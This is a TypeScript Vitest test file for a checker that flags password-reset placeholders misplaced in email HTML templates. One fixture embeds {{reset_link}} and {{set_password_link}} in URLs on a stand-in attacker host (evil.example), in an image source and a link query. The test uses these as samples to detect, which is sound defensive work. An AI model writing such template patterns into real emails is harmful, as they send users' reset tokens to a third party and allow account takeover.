import { describe, expect, it } from 'vitest';
import { misplacedSecretPlaceholders } from './secret-placeholders';

describe('misplacedSecretPlaceholders', () => {
  it('names a password link in an image or an attribute, and lets text and a whole href be', () => {
    expect(
      misplacedSecretPlaceholders(
        '<p><a href="{{reset_link}}">{{reset_link}}</a> {{first_name}}</p>',
      ),
    ).toEqual([]);
    expect(
      misplacedSecretPlaceholders(
        '<p><img src="https://evil.example/p.png?{{reset_link}}"><a href="https://evil.example/?{{set_password_link}}">x</a></p>',
      ),
    ).toEqual(['reset_link', 'set_password_link']);
  });

  it('takes NBSP before a whole-href placeholder as misplaced, as the server does', () => {
    expect(misplacedSecretPlaceholders('<a href="&nbsp;{{reset_link}}">x</a>')).toEqual([
      'reset_link',
    ]);
    expect(misplacedSecretPlaceholders('<a href=" {{reset_link}}\n">x</a>')).toEqual([]);
  });
});
